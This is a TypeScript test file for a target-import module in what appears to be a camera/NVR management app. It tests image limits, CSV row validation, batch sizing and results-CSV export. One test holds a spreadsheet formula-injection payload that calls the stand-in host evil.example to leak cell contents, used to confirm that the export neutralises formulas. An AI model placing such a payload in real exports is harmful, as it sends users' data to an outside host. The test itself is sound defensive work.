import assert from 'node:assert/strict';
import { test } from 'node:test';
import { batches, parseCsv, resultsCsv, rowKey, validateRows } from '../../renderer/model/target-import';
import { pictureKind, pictureProblem, type PictureCheck } from '../../renderer/model/target-pictures';
import { png } from '../helpers/images';

const limits = { maxImageBytes: 50 * 1024, maxImageSide: 1200 }; // §14.0.6
const ok = (fileName: string, kb = 2): PictureCheck => ({
  fileName,
  bytes: kb * 1024,
  width: 64,
  height: 64,
  base64: 'A'.repeat(Math.floor((kb * 1024 * 4) / 3)),
});

test('pictures: PNG/JPEG by signature, the documented byte and pixel limits', () => {
  assert.equal(pictureKind(png(2, 2)), 'png');
  assert.equal(pictureKind(new Uint8Array([0xff, 0xd8, 0xff, 0xe0])), 'jpeg');
  assert.equal(pictureKind(new TextEncoder().encode('GIF89a')), null);
  assert.equal(pictureProblem('png', 50 * 1024, 1200, 1200, limits), null, 'both limits are inclusive');
  assert.match(pictureProblem('png', 50 * 1024 + 1, 10, 10, limits)!, /51 KB is over the 50 KB limit/);
  assert.match(pictureProblem('jpeg', 1000, 1201, 10, limits)!, /1201×10 px is over/);
  assert.match(pictureProblem(null, 10, 1, 1, limits)!, /Not a PNG or JPEG/);
});

test('CSV rows are validated into a report: bad attributes, missing or oversized pictures, duplicates, rows already imported', () => {
  const csv =
    '\uFEFFfile,name,gender,age,phone,remark\na.png,张三,male,30,13800138000,\nb.png,李四,女,,,备注\nc.png,王五,x,,,\nmissing.png,赵六,male,,,\nbig.png,钱七,male,,,\na.png,张三,male,,,\nd.png,孙八,female,300,123,\n';
  const { rows, error } = parseCsv(csv);
  assert.equal(error, null);
  const pictures = new Map(
    [
      ok('a.png'),
      ok('b.png'),
      ok('c.png'),
      ok('d.png'),
      { ...ok('big.png'), base64: undefined, problem: '60 KB is over the 50 KB limit' },
    ].map((p) => [p.fileName, p]),
  );
  const imported = new Set([rowKey('李四', 'b.png')]);
  // An SDC keeps native, work_no and domicile only: age, phone and remark are ignored there.
  const report = validateRows(rows, pictures, ['age', 'phone', 'remark'], imported);
  assert.deepEqual(
    report.map((r) => [r.line, r.status]),
    [
      [2, 'ready'],
      [3, 'skipped'],
      [4, 'invalid'],
      [5, 'invalid'],
      [6, 'invalid'],
      [7, 'invalid'],
      [8, 'invalid'],
    ],
  );
  assert.deepEqual(report[0]!.target && { ...report[0]!.target, picture: undefined }, {
    name: '张三',
    gender: 'male',
    age: 30,
    phone: '13800138000',
    picture: undefined,
    externalId: rowKey('张三', 'a.png'),
  });
  assert.match(report[2]!.problems.join(), /gender/);
  assert.match(report[3]!.problems.join(), /no picture named “missing.png”/);
  assert.match(report[4]!.problems.join(), /over the 50 KB limit/);
  assert.match(report[5]!.problems.join(), /earlier line/);
  assert.deepEqual(report[6]!.problems.length, 2, 'age 300 and a short phone');
  const sdc = validateRows(rows.slice(0, 1), pictures, ['native', 'work_no', 'domicile'], new Set());
  assert.deepEqual(sdc[0]!.ignored, ['age', 'phone']);
  assert.match(parseCsv('name,gender\nx,male').error!, /file and name/);
  assert.match(resultsCsv(report).split('\r\n')[0]!, /^line,name,file,status,target_id,code,message$/);
});

test('batches respect the per-call count and the NVR800 700 KB picture total; keys are stable and API-safe', () => {
  const rows = Array.from({ length: 45 }, (_, i) => ({
    line: i + 2,
    name: `p${i}`,
    file: `${i}.png`,
    key: `k${i}`,
    problems: [],
    ignored: [],
    status: 'ready' as const,
    target: { name: `p${i}`, gender: 'male' as const, picture: ok(`${i}.png`, 40).base64! },
  }));
  assert.deepEqual(
    batches(rows, { batch: 20, batchImageBytes: null }).map((b) => b.length),
    [20, 20, 5],
  );
  assert.deepEqual(
    batches(rows, { batch: 20, batchImageBytes: 700 * 1024 }).map((b) => b.length),
    [17, 17, 11],
    '17 × 40 KB fit in 700 KB',
  );
  assert.deepEqual(batches(rows, { batch: 1, batchImageBytes: null }).length, 45);
  assert.equal(rowKey('张三', 'a.png'), rowKey('张三', 'a.png'));
  assert.notEqual(rowKey('张三', 'a.png'), rowKey('张三', 'b.png'));
  assert.match(rowKey('张三', 'a.png'), /^[A-Za-z0-9_]{1,64}$/);
});

test('the results CSV neutralises formulas: a platform message or a name starting with = is text in a spreadsheet', () => {
  const csv = resultsCsv([
    {
      line: 2,
      name: '=HYPERLINK("http://evil.example/?"&A1)',
      file: 'a.jpg',
      key: 'k',
      problems: [],
      ignored: [],
      status: 'failed',
      code: 'X',
      message: '@SUM(1+1)',
    },
  ]);
  const cells = csv.split('\r\n')[1]!.split(',');
  for (const c of cells) assert.doesNotMatch(c.replace(/^"/, ''), /^[=+\-@]/, csv);
});
